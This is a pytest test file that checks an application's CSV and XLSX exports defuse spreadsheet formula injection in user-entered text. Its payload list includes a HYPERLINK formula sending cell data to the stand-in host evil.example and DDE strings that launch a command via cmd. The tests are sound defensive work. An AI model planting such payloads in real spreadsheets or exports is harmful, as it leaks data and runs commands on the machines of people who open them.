"""Formula injection: text a user typed must reach a spreadsheet as text, never as a formula.

A justification or title beginning with ``=``, ``+``, ``-``, ``@``, a tab or a CR is a
formula to Excel and LibreOffice; the CSV exports prefix it with ``'`` and the XLSX export
stores it as a string cell.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from api.cli.output import render_csv
from tests.api.conftest import ApiEnv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_soa_csv_and_xlsx_never_carry_a_formula(api_env: ApiEnv, formula: str) -> None:
    admin, viewer = api_env.headers("admin"), api_env.headers("viewer")
    body = {"applicable": True, "justification": formula, "implementation_status": "planned"}
    response = api_env.client.put("/api/soa/A.7.6", json=body, headers=admin)
    assert response.status_code == 200, response.text
    stored = response.json()["justification"]  # leading white space may be trimmed on save
    assert stored.lstrip("\t\r") == formula.lstrip("\t\r")

    text = api_env.client.get("/api/soa/export?format=csv", headers=viewer).text
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["notation"] == "A.7.6")
    assert row["justification"] == "'" + stored

    data = api_env.client.get("/api/soa/export?format=xlsx", headers=viewer).content
    sheet = load_workbook(io.BytesIO(data))["Statement of Applicability"]
    cells = [c for r in sheet.iter_rows() for c in r if c.value == stored]
    assert cells, "the justification is kept exactly in the XLSX"
    assert all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_cli_csv_neutralises_formulas_but_keeps_numbers() -> None:
    rows = [{"title": "=cmd|' /C calc'!A0", "score": -0.25, "owner": "@evil", "n": "-3"}]
    out = list(csv.reader(io.StringIO(render_csv(rows, ["title", "score", "owner", "n"]))))
    assert out[1] == ["'=cmd|' /C calc'!A0", "-0.250", "'@evil", "-3"]
